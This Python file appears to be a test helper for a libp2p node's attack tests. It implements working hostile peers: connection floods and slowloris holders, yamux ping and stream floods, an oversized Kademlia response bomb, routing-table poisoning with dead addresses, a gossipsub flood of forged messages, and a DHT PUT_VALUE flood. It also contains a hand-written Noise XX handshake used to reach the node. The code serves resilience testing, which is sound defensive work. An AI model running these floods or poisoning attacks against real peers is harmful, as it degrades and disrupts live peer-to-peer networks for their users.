"""Hostile libp2p peers for the attack tests (issue #13): each speaks the
protocol only as far as its attack needs, never reads what the listener
sends unless told to, and stops by itself after the given time.

  hostile.py ls-flood   HOST PORT SECONDS [CONNS]  multistream header, then "ls" without end
  hostile.py silent     HOST PORT SECONDS [CONNS]  TCP connections that say nothing (and
                                                  open again when dropped)
  hostile.py loris      HOST PORT SECONDS [CONNS]  the same, each sending one byte first (an
                                                  HTTP request that never ends)
  hostile.py ping-flood HOST PORT SECONDS          Noise + yamux, then yamux pings without end,
                                                  reading for 20 ms every 4 s
  hostile.py syn-flood  HOST PORT SECONDS          Noise + yamux, then new streams without end
                                                  (each one over the limit earns a RST)
  hostile.py kad-bomb   HOST PORT SECONDS          listens (port 0: any) as a Kademlia server
                                                  that answers every request with 4 MiB of
                                                  empty closerPeers; prints "listening <multiaddr>"
  hostile.py kad-poison HOST PORT SECONDS PEER [N] the same server, answering with PEER (a peer
                                                  ID) at N (32) addresses where nobody listens
  hostile.py ps-flood   HOST PORT SECONDS          Noise + yamux, one /meshsub/1.1.0 stream, then
                                                  RPCs as fast as the window allows: 300
                                                  topics, 50 forged 1 KiB messages, IHAVEs of
                                                  10,000 ids, IWANTs of 2,000, GRAFTs (again
                                                  and again: during the backoff of the PRUNE
                                                  they earn); never reads what the
                                                  listener sends (answers yamux pings and takes
                                                  window updates only); prints "rpcs <n>"
  hostile.py put-flood  HOST PORT SECONDS COUNT    Noise + yamux, then COUNT Kademlia PUT_VALUEs
                                                  of /test/ keys, one per stream, 64 streams at
                                                  a time; prints "stored <n> refused <n>" (the
                                                  acknowledged ones, the reset ones)

Prints one line "sent <bytes> bytes on <n> connections" at the end. Noise XX
(libp2p noise spec) is written out here with the cryptography package
(Debian's python3-cryptography); the protobuf fields by hand."""
import hashlib
import hmac
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


def uvarint(n):
    out = b''
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def mss_msg(s):
    m = s.encode() + b'\n'
    return uvarint(len(m)) + m


def raw(k):
    return k.public_bytes(Encoding.Raw, PublicFormat.Raw)


def hkdf2(ck, ikm):
    temp = hmac.new(ck, ikm, hashlib.sha256).digest()
    o1 = hmac.new(temp, b'\x01', hashlib.sha256).digest()
    o2 = hmac.new(temp, o1 + b'\x02', hashlib.sha256).digest()
    return o1, o2


class Symmetric:
    def __init__(self):
        self.h = b'Noise_XX_25519_ChaChaPoly_SHA256'
        self.ck = self.h
        self.k = None
        self.n = 0
        self.mix_hash(b'')  # the empty prologue

    def mix_hash(self, data):
        self.h = hashlib.sha256(self.h + data).digest()

    def mix_key(self, ikm):
        self.ck, self.k = hkdf2(self.ck, ikm)
        self.n = 0

    def _nonce(self):
        n = struct.pack('<4xQ', self.n)
        self.n += 1
        return n

    def encrypt_and_hash(self, p):
        c = ChaCha20Poly1305(self.k).encrypt(self._nonce(), p, self.h) if self.k else p
        self.mix_hash(c)
        return c

    def decrypt_and_hash(self, c):
        p = ChaCha20Poly1305(self.k).decrypt(self._nonce(), c, self.h) if self.k else c
        self.mix_hash(c)
        return p


class Cipher:
    def __init__(self, k):
        self.aead = ChaCha20Poly1305(k)
        self.n = 0

    def seal(self, p):
        """p as Noise transport messages (at most 65519 plaintext bytes each)."""
        out = b''
        for i in range(0, max(len(p), 1), 65519):
            c = self.aead.encrypt(struct.pack('<4xQ', self.n), p[i:i + 65519], b'')
            self.n += 1
            out += struct.pack('>H', len(c)) + c
        return out


def recv_exact(s, n):
    b = b''
    while len(b) < n:
        chunk = s.recv(n - len(b))
        if not chunk:
            raise ConnectionError('closed')
        b += chunk
    return b


def read_mss(s):
    n, shift = 0, 0
    while True:
        b = recv_exact(s, 1)[0]
        n |= (b & 0x7f) << shift
        shift += 7
        if not b & 0x80:
            break
    return recv_exact(s, n)


def secure(host, port):
    """A Noise XX initiator with a fresh Ed25519 identity, then yamux agreed
    by multistream-select inside it. Returns the socket and our sealer."""
    s, out, _ = secure_both(host, port)
    return s, out


def secure_both(host, port):
    """secure(), and the opener of what the listener sends."""
    s = socket.create_connection((host, port))
    s.sendall(mss_msg('/multistream/1.0.0') + mss_msg('/noise'))
    read_mss(s)
    if read_mss(s) != b'/noise\n':
        raise ConnectionError('no noise')
    ident = Ed25519PrivateKey.generate()
    st, e = X25519PrivateKey.generate(), X25519PrivateKey.generate()
    sym = Symmetric()
    sym.mix_hash(raw(e.public_key()))
    msg1 = raw(e.public_key()) + sym.encrypt_and_hash(b'')
    s.sendall(struct.pack('>H', len(msg1)) + msg1)
    msg2 = recv_exact(s, struct.unpack('>H', recv_exact(s, 2))[0])
    re = X25519PublicKey.from_public_bytes(msg2[:32])
    sym.mix_hash(msg2[:32])
    sym.mix_key(e.exchange(re))
    rs = X25519PublicKey.from_public_bytes(sym.decrypt_and_hash(msg2[32:80]))
    sym.mix_key(e.exchange(rs))
    sym.decrypt_and_hash(msg2[80:])  # the listener's payload: not checked
    pub = b'\x08\x01\x12\x20' + raw(ident.public_key())  # PublicKey{Ed25519, 32 bytes}
    sig = ident.sign(b'noise-libp2p-static-key:' + raw(st.public_key()))
    payload = b'\x0a' + uvarint(len(pub)) + pub + b'\x12' + uvarint(len(sig)) + sig
    msg3 = sym.encrypt_and_hash(raw(st.public_key()))
    sym.mix_key(st.exchange(re))
    msg3 += sym.encrypt_and_hash(payload)
    s.sendall(struct.pack('>H', len(msg3)) + msg3)
    k1, k2 = hkdf2(sym.ck, b'')
    out = Cipher(k1)
    s.sendall(out.seal(mss_msg('/multistream/1.0.0') + mss_msg('/yamux/1.0.0')))
    return s, out, Opener(k2)


B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'


def base58(b):
    n, out = int.from_bytes(b, 'big'), ''
    while n:
        n, r = divmod(n, 58)
        out = B58[r] + out
    return '1' * (len(b) - len(b.lstrip(b'\0'))) + out


def unbase58(s):
    n = 0
    for ch in s:
        n = n * 58 + B58.index(ch)
    b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return b'\0' * (len(s) - len(s.lstrip('1'))) + b


def identity_payload(ident, static_pub):
    pub = b'\x08\x01\x12\x20' + raw(ident.public_key())  # PublicKey{Ed25519, 32 bytes}
    sig = ident.sign(b'noise-libp2p-static-key:' + static_pub)
    return pub, b'\x0a' + uvarint(len(pub)) + pub + b'\x12' + uvarint(len(sig)) + sig


class Opener:
    """Noise transport messages in, plaintext out."""
    def __init__(self, k):
        self.aead = ChaCha20Poly1305(k)
        self.n = 0
        self.buf = b''

    def feed(self, data):
        self.buf += data
        out = b''
        while len(self.buf) >= 2:
            n = struct.unpack('>H', self.buf[:2])[0]
            if len(self.buf) < 2 + n:
                break
            out += self.aead.decrypt(struct.pack('<4xQ', self.n), self.buf[2:2 + n], b'')
            self.n += 1
            self.buf = self.buf[2 + n:]
        return out


def respond(s, ident):
    """The Noise XX responder; then yamux agreed inside. Returns (opener, sealer)."""
    read_mss(s)
    if read_mss(s) != b'/noise\n':
        raise ConnectionError('no noise proposed')
    s.sendall(mss_msg('/multistream/1.0.0') + mss_msg('/noise'))
    st, e = X25519PrivateKey.generate(), X25519PrivateKey.generate()
    sym = Symmetric()
    msg1 = recv_exact(s, struct.unpack('>H', recv_exact(s, 2))[0])
    re = X25519PublicKey.from_public_bytes(msg1[:32])
    sym.mix_hash(msg1[:32])
    sym.decrypt_and_hash(msg1[32:])
    sym.mix_hash(raw(e.public_key()))
    sym.mix_key(e.exchange(re))
    msg2 = raw(e.public_key()) + sym.encrypt_and_hash(raw(st.public_key()))
    sym.mix_key(st.exchange(re))
    msg2 += sym.encrypt_and_hash(identity_payload(ident, raw(st.public_key()))[1])
    s.sendall(struct.pack('>H', len(msg2)) + msg2)
    msg3 = recv_exact(s, struct.unpack('>H', recv_exact(s, 2))[0])
    rs = X25519PublicKey.from_public_bytes(sym.decrypt_and_hash(msg3[:48]))
    sym.mix_key(e.exchange(rs))
    sym.decrypt_and_hash(msg3[48:])
    k1, k2 = hkdf2(sym.ck, b'')
    return Opener(k1), Cipher(k2)


def yamux_frames(plain):
    """The complete yamux frames at the start of plain, as (type, flags,
    stream id, length, payload), and what is left."""
    frames = []
    while len(plain) >= 12:
        _, typ, flags, sid, length = struct.unpack('>BBHII', plain[:12])
        n = length if typ == 0 else 0
        if len(plain) < 12 + n:
            break
        frames.append((typ, flags, sid, length, plain[12:12 + n]))
        plain = plain[12 + n:]
    return frames, plain


def bomb_answer():
    """FIND_NODE with empty closerPeers, as large as a Kademlia message may be."""
    body = b'\x08\x04' + b'\x42\x00' * ((4 * 1024 * 1024 - 16) // 2)
    return uvarint(len(body)) + body


def poison_answer(peer, n):
    """FIND_NODE whose one closer peer is `peer` (base58) at n loopback
    addresses where nobody listens (/ip4/127.0.0.1/tcp/1..n)."""
    pid = unbase58(peer)
    addrs = [b'\x04\x7f\x00\x00\x01\x06' + struct.pack('>H', 1 + i) for i in range(n)]
    entry = b'\x0a' + uvarint(len(pid)) + pid + b''.join(b'\x12' + uvarint(len(a)) + a
                                                          for a in addrs)
    body = b'\x08\x04' + b'\x42' + uvarint(len(entry)) + entry
    return uvarint(len(body)) + body


def kad_bomb_conn(s, ident, bomb):
    """Serve one connection: every /ipfs/kad/1.0.0 request is answered with
    the bytes of `bomb`, sent within the yamux windows the dialer grants."""
    opener, out = respond(s, ident)
    plain, muxed = b'', False
    streams = {}  # id: {'in': bytes, 'proto': str|None, 'window': int, 'out': bytes}
    while True:
        data = s.recv(1 << 16)
        if not data:
            return
        plain += opener.feed(data)
        if not muxed:
            if plain.count(b'\n') < 2:
                continue
            s.sendall(out.seal(mss_msg('/multistream/1.0.0') + mss_msg('/yamux/1.0.0')))
            plain = plain[plain.index(b'\n', plain.index(b'\n') + 1) + 1:]
            muxed = True
        reply = b''
        frames, plain = yamux_frames(plain)
        for typ, flags, sid, length, payload in frames:
            if typ == 2 and flags & 1:
                reply += yamux(2, 2, 0, length)
                continue
            if typ == 3:
                return
            st = streams.get(sid)
            if flags & 1:  # SYN
                st = streams[sid] = {'in': b'', 'proto': None, 'window': 256 * 1024, 'out': b''}
                reply += yamux(1, 2, sid, 0)  # ACK
            if st is None:
                continue
            if typ == 1:
                st['window'] += length
            st['in'] += payload
            if st['proto'] is None and st['in'].count(b'\n') >= 2:
                lines = st['in'].split(b'\n')
                proto = lines[1][1:].decode(errors='replace')
                st['in'] = b'\n'.join(lines[2:])
                if proto == '/ipfs/kad/1.0.0':
                    st['proto'] = proto
                    st['out'] = mss_msg('/multistream/1.0.0') + mss_msg(proto)
                else:
                    st['proto'] = 'refused'
                    st['out'] = mss_msg('/multistream/1.0.0') + mss_msg('na')
            if st['proto'] == '/ipfs/kad/1.0.0' and st['in']:
                st['in'] = b''
                st['out'] += bomb
        for sid, st in streams.items():
            while st['out'] and st['window'] > 0:
                k = min(len(st['out']), st['window'], 65000)
                reply += yamux(0, 0, sid, k) + st['out'][:k]
                st['out'], st['window'] = st['out'][k:], st['window'] - k
                if len(reply) > 60000:
                    s.sendall(out.seal(reply))
                    reply = b''
        if reply:
            s.sendall(out.seal(reply))


def kad_bomb(host, port, seconds, answer):
    import threading
    ident = Ed25519PrivateKey.generate()
    pub, _ = identity_payload(ident, b'')
    peer_id = base58(b'\x00' + bytes([len(pub)]) + pub)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((host, port))
    ls.listen(16)
    ls.settimeout(0.2)
    print(f'listening /ip4/{host}/tcp/{ls.getsockname()[1]}/p2p/{peer_id}', flush=True)
    deadline, served = time.time() + seconds, 0

    def serve(c):
        try:
            kad_bomb_conn(c, ident, answer)
        except (OSError, ConnectionError, ValueError) as e:
            print(f'connection ended: {e!r}', file=sys.stderr, flush=True)
        finally:
            c.close()

    while time.time() < deadline:
        try:
            c, _ = ls.accept()
        except socket.timeout:
            continue
        served += 1
        threading.Thread(target=serve, args=(c,), daemon=True).start()
    return served


def yamux(typ, flags, sid, length):
    return struct.pack('>BBHII', 0, typ, flags, sid, length)


def flood(s, out, frame, seconds):
    """Seal frames made by frame(i) into full Noise messages and send them,
    reading for 20 ms every 4 s. Returns the bytes sent."""
    per = 65519 // 12
    sent, i, deadline, next_read = 0, 0, time.time() + seconds, time.time() + 4
    s.setblocking(False)
    pending = b''
    while time.time() < deadline:
        if not pending:
            pending = out.seal(b''.join(frame(i + j) for j in range(per)))
            i += per
        try:
            k = s.send(pending)
            sent += k
            pending = pending[k:]
        except BlockingIOError:
            time.sleep(0.005)
        except OSError:
            break
        if time.time() >= next_read:
            end = time.time() + 0.02
            while time.time() < end:
                try:
                    if not s.recv(65536):
                        return sent
                except BlockingIOError:
                    time.sleep(0.001)
                except OSError:
                    return sent
            next_read = time.time() + 4
    return sent


def raw_flood(host, port, seconds, conns, opening, more):
    """conns connections that send opening, then more without end, never
    reading; one that closes (or cannot connect yet) is opened again."""
    deadline = time.time() + seconds
    sent, opened = 0, 0
    socks = [None] * conns

    refused_at = 0.0

    def connect():
        nonlocal opened, refused_at
        if time.time() < refused_at + 0.05:
            return None  # the port is not open yet: try again in a moment, not in a spin
        try:
            c = socket.create_connection((host, port), timeout=1)
        except OSError:
            refused_at = time.time()
            return None
        if c.getsockname() == c.getpeername():
            # Connecting to a port nobody listens on can meet itself (TCP
            # simultaneous open when the kernel picks that very port as the
            # source): that would hold the port the listener wants.
            c.close()
            refused_at = time.time()
            return None
        c.setblocking(False)
        opened += 1
        return [c, opening]

    while time.time() < deadline:
        progress = False
        for i, entry in enumerate(socks):
            if entry is None:
                socks[i] = entry = connect()
                if entry is None:
                    continue
            c, data = entry
            if not data and more:
                data = more
            try:
                if data:
                    k = c.send(data)
                    sent += k
                    entry[1] = data[k:]
                    progress = progress or k > 0
                elif c.recv(65536) == b'':
                    raise ConnectionError('closed')  # silent: says nothing, notices the close
            except BlockingIOError:
                pass
            except OSError:
                c.close()
                socks[i] = None
        if not progress:
            time.sleep(0.01)
    return sent, opened


def pb_bytes(field, b):
    return uvarint(field << 3 | 2) + uvarint(len(b)) + b


def put_flood(host, port, seconds, count):
    """count PUT_VALUEs, each on its own stream (a refused one resets it), at
    most 64 streams open at a time. Returns (stored, refused, bytes sent)."""
    s, out, opener = secure_both(host, port)
    deadline = time.time() + seconds
    plain, muxed = b'', False
    hello = mss_msg('/multistream/1.0.0') + mss_msg('/ipfs/kad/1.0.0')
    open_ids, next_id, started = set(), 1, 0
    stored = refused = sent = 0
    while stored + refused < count and time.time() < deadline:
        batch = b''
        while started < count and len(open_ids) < 64:
            key = b'/test/flood-%d' % started
            msg = b'\x08\x00' + pb_bytes(2, key) + pb_bytes(3, pb_bytes(1, key) + pb_bytes(2, b'x'))
            body = hello + uvarint(len(msg)) + msg
            batch += yamux(0, 1, next_id, len(body)) + body + yamux(0, 4, next_id, 0)
            open_ids.add(next_id)
            next_id += 2
            started += 1
        if batch:
            data = out.seal(batch)
            s.sendall(data)
            sent += len(data)
        data = s.recv(1 << 16)
        if not data:
            break
        plain += opener.feed(data)
        if not muxed:  # the listener's multistream-select answer for yamux
            if plain.count(b'\n') < 2:
                continue
            plain = plain[plain.index(b'\n', plain.index(b'\n') + 1) + 1:]
            muxed = True
        reply = b''
        frames, plain = yamux_frames(plain)
        for typ, flags, sid, length, _ in frames:
            if typ == 2 and flags & 1:  # ping
                reply += yamux(2, 2, 0, length)
            elif typ == 3:  # GoAway
                return stored, refused, sent
            elif flags & 1 and sid % 2 == 0:  # a stream the listener opens (identify): refused
                reply += yamux(1, 8, sid, 0)
            elif sid in open_ids and flags & (4 | 8):
                open_ids.discard(sid)
                if flags & 8:
                    refused += 1
                else:
                    stored += 1
        if reply:
            data = out.seal(reply)
            s.sendall(data)
            sent += len(data)
    s.close()
    return stored, refused, sent


def pubsub_flood(host, port, seconds):
    """See ps-flood above. Returns (bytes sent, RPCs sent)."""
    import os
    s, out, opener = secure_both(host, port)
    hello = mss_msg('/multistream/1.0.0') + mss_msg('/meshsub/1.1.0')
    sid, window = 1, 256 * 1024
    s.sendall(out.seal(yamux(0, 1, sid, len(hello)) + hello))
    window -= len(hello)
    sub = lambda t: pb_bytes(1, b'\x08\x01' + pb_bytes(2, t))
    rpc = sub(b'chat') + b''.join(sub(b'spam-%d' % i) for i in range(300))
    for i in range(50):  # signatures that verify nothing
        rpc += pb_bytes(2, pb_bytes(1, os.urandom(38)) + pb_bytes(2, os.urandom(1024)) +
                        pb_bytes(3, os.urandom(8)) + pb_bytes(4, b'chat') + pb_bytes(5, os.urandom(64)))
    ihave = pb_bytes(1, pb_bytes(1, b'chat') + b''.join(pb_bytes(2, os.urandom(20)) for _ in range(2000)))
    iwant = pb_bytes(2, b''.join(pb_bytes(1, os.urandom(20)) for _ in range(1000)))
    rpc += pb_bytes(3, ihave * 5 + iwant * 2 + pb_bytes(3, pb_bytes(1, b'chat')))
    frame = uvarint(len(rpc)) + rpc
    sent = rpcs = 0
    pending, plain, muxed = b'', b'', False
    deadline = time.time() + seconds
    s.settimeout(0.05)
    while time.time() < deadline:
        if not pending:
            pending = frame
            rpcs += 1
        chunk = pending[:min(window, 65519 - 12)]
        if chunk:
            data = out.seal(yamux(0, 0, sid, len(chunk)) + chunk)
            try:
                s.sendall(data)
            except OSError:
                break
            sent += len(data)
            window -= len(chunk)
            pending = pending[len(chunk):]
        try:
            data = s.recv(1 << 16)
            if not data:
                break
        except socket.timeout:
            continue
        except OSError:
            break
        plain += opener.feed(data)
        if not muxed:
            if plain.count(b'\n') < 2:
                continue
            plain = plain[plain.index(b'\n', plain.index(b'\n') + 1) + 1:]
            muxed = True
        frames, plain = yamux_frames(plain)
        reply = b''
        for typ, flags, fsid, length, _ in frames:
            if typ == 1 and fsid == sid:
                window += length
                if flags & 8:
                    return sent, rpcs
            elif typ == 2 and flags & 1:
                reply += yamux(2, 2, 0, length)
            elif typ == 3:
                return sent, rpcs
        if reply:
            s.sendall(out.seal(reply))
    s.close()
    return sent, rpcs


def main():
    mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    conns = int(sys.argv[5]) if len(sys.argv) > 5 and mode != 'kad-poison' else 1
    if mode == 'ls-flood':
        header = mss_msg('/multistream/1.0.0')
        sent, n = raw_flood(host, port, seconds, conns, header, mss_msg('ls') * 4096)
    elif mode == 'silent':
        sent, n = raw_flood(host, port, seconds, conns, b'', b'')
    elif mode == 'loris':
        sent, n = raw_flood(host, port, seconds, conns, b'G', b'')
    elif mode == 'ping-flood':
        s, out = secure(host, port)
        sent, n = flood(s, out, lambda i: yamux(2, 1, 0, i & 0xffffffff), seconds), 1
    elif mode == 'kad-bomb':
        sent, n = 0, kad_bomb(host, port, seconds, bomb_answer())
    elif mode == 'kad-poison':
        count = int(sys.argv[6]) if len(sys.argv) > 6 else 32
        sent, n = 0, kad_bomb(host, port, seconds, poison_answer(sys.argv[5], count))
    elif mode == 'put-flood':
        stored, refused, sent = put_flood(host, port, seconds, conns)
        print(f'stored {stored} refused {refused}', flush=True)
        n = 1
    elif mode == 'ps-flood':
        sent, rpcs = pubsub_flood(host, port, seconds)
        print(f'rpcs {rpcs}', flush=True)
        n = 1
    elif mode == 'syn-flood':
        s, out = secure(host, port)
        sent, n = flood(s, out, lambda i: yamux(1, 1, (2 * i + 1) & 0xffffffff, 0), seconds), 1
    else:
        sys.exit('unknown mode ' + mode)
    print(f'sent {sent} bytes on {n} connections', flush=True)


if __name__ == '__main__':
    main()
